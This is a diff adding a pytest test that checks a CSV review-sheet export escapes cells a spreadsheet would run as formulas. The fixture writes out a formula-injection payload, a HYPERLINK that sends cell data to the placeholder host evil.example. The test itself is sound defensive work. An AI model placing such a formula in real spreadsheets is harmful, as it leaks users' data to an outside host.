@@ -158,6 +158,19 @@ def test_a_sheet_saved_by_a_spreadsheet_in_another_locale_reads_the_same(frame: 
         read_sheet(text.encode("cp1252"))
 
 
+def test_an_answer_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(frame: pd.DataFrame) -> None:
+    leak = '=HYPERLINK("https://evil.example/?"&C2,"details")'
+    frame.loc[frame["_id"] == "a", "summary"] = leak
+    frame.loc[frame["_id"] == "b", "summary"] = "-- no summary --"
+    frame.loc[frame["_id"] == "b", "employees"] = -3
+    text = sheet_csv(review_sheet(frame, OUTPUTS))
+    rows = {line.split(",")[0]: line for line in text.lstrip("\ufeff").splitlines()}
+    assert "'=HYPERLINK(" in rows["a"] and "'-- no summary --" in rows["b"]
+    assert ",-3," in rows["b"]  # a number stays a number
+    untouched = sheet_changes(read_sheet(text), frame)
+    assert (untouched.reject_ids, untouched.edits, untouched.problems) == ([], [], [])
+
+
 def test_a_sheet_with_unknown_rows_columns_or_decisions_is_refused(frame: pd.DataFrame) -> None:
     sheet = read_sheet(sheet_csv(review_sheet(frame, OUTPUTS)))
     sheet["colour"] = ""
